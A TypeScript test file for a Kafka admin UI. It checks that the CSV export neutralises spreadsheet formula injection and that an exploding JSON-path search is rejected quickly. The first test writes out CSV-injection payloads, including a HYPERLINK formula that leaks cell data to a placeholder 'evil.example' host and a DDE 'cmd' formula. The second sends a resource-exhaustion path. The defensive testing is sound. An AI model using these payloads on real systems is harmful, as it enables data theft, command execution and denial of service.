// Hostile data in the Admin UI (issue 17): what a producer writes into records reaches the
// operator's spreadsheet through the Messages page's CSV export. A cell starting with = + - @ (or
// a tab or carriage return) is a formula to Excel, LibreOffice and Sheets (CSV injection,
// `=cmd|' /C calc'!A0`, `=HYPERLINK(...)`), so the export writes such cells as text: a leading '.

import { readFileSync } from 'node:fs';
import kafkajs from 'kafkajs';
import t from 'tap';
import { launchChromium } from '../helpers/browser.js';
import { OPERATOR, openUi, startUiBroker } from '../helpers/admin-ui.js';

const { Kafka, logLevel } = kafkajs;

const browser = await launchChromium(t);

t.test('CSV export does not hand formulas from records to a spreadsheet', async (t) => {
  const { plainPort, httpUrl } = await startUiBroker(t);
  const kafka = new Kafka({ brokers: [`127.0.0.1:${plainPort}`], clientId: 'ui-hostile-test', logLevel: logLevel.NOTHING });
  const admin = kafka.admin();
  await admin.connect();
  t.teardown(() => admin.disconnect());
  await admin.createTopics({ topics: [{ topic: 'hostile', numPartitions: 1 }], waitForLeaders: true });
  const producer = kafka.producer();
  await producer.connect();
  t.teardown(() => producer.disconnect());
  await producer.send({ topic: 'hostile', messages: [{ key: '=HYPERLINK("http://evil.example/?"&A1,"x")', value: "+cmd|' /C calc'!A0", headers: { h: '@SUM(1)' } }] });
  await producer.send({ topic: 'hostile', messages: [{ key: '-2+3', value: 'plain' }] });

  const { page } = await openUi(browser, httpUrl, OPERATOR, '/topics/hostile/messages?tab=browse');
  await page.getByTestId('browse-partition').selectOption('0');
  await page.getByTestId('browse-offset').fill('0');
  await page.getByTestId('browse-load').click();
  await page.locator('[data-testid="browse-table"] tr[data-key="0-1"]').waitFor();
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByTestId('export-csv').click()]);
  const text = readFileSync(await download.path(), 'utf8');
  t.match(text, /,"'=HYPERLINK\(/, 'a key starting with = is written as text');
  t.match(text, /,'\+cmd\|/, 'a value starting with + too');
  t.match(text, /,'-2\+3,/, 'and one starting with -');
  t.notMatch(text, /(^|,)"?[=+\-@\t\r]/m, 'no cell starts with a formula character');
});

t.test('a JSON path whose unions multiply is refused at once, not tried for seconds on the main thread', async (t) => {
  const { plainPort, httpUrl } = await startUiBroker(t);
  const kafka = new Kafka({ brokers: [`127.0.0.1:${plainPort}`], clientId: 'ui-hostile-test', logLevel: logLevel.NOTHING });
  const admin = kafka.admin();
  await admin.connect();
  t.teardown(() => admin.disconnect());
  await admin.createTopics({ topics: [{ topic: 'paths', numPartitions: 1 }], waitForLeaders: true });
  const authorization = `Basic ${Buffer.from(`${OPERATOR.user}:${OPERATOR.password}`).toString('base64')}`;
  // 1,204 characters, within searchPatternCharsMax: before, 35 s and 3 GB of the main thread's.
  const union = `[${Array(200).fill('*').join(',')}]`;
  const started = Date.now();
  const response = await fetch(`${httpUrl}/api/v1/topics/paths/searches`, {
    method: 'POST',
    headers: { authorization, 'content-type': 'application/json' },
    body: JSON.stringify({ field: 'value', mode: 'jsonpath', pattern: `$${union}${union}${union}` }),
    signal: AbortSignal.timeout(5_000),
  });
  t.equal(response.status, 400, 'answered 400');
  t.match(((await response.json()) as { message?: string }).message ?? '', /comma/, 'saying why');
  t.ok(Date.now() - started < 2_000, 'at once');
  const fine = await fetch(`${httpUrl}/api/v1/topics/paths/searches`, {
    method: 'POST',
    headers: { authorization, 'content-type': 'application/json' },
    body: JSON.stringify({ field: 'value', mode: 'jsonpath', pattern: "$['a','b'][?(@.c > 1)]" }),
  });
  t.equal(fine.status, 202, 'a path with a small union still starts');
});
